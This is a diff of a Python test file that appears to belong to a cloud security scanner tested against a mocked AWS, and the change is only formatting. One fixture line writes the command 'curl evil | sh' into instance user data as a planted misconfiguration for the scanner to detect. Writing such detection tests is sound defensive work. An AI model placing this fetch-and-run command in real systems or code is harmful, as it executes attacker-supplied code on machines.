@@ -90,9 +90,7 @@ class Estate:
 
 def about(findings: list[dict[str, Any]]) -> set[tuple[str, str, str]]:
     """Query, verdict and short id of each finding."""
-    return {
-        (f["query_id"], f["verdict"], f["resource_id"].rsplit("/", 1)[-1]) for f in findings
-    }
+    return {(f["query_id"], f["verdict"], f["resource_id"].rsplit("/", 1)[-1]) for f in findings}
 
 
 def encoded(text: str) -> bytes:
@@ -149,7 +147,9 @@ def test_the_main_job(cli: Cli, moto_url: str) -> None:
     ]
     group = estate.groups[far]
     other.authorize_security_group_ingress(GroupId=group, IpPermissions=opened)
-    other.modify_instance_attribute(InstanceId=rewritten, UserData={"Value": encoded("curl evil | sh")})
+    other.modify_instance_attribute(
+        InstanceId=rewritten, UserData={"Value": encoded("curl evil | sh")}
+    )
     ec2.modify_snapshot_attribute(
         SnapshotId=estate.snapshot,
         Attribute="createVolumePermission",
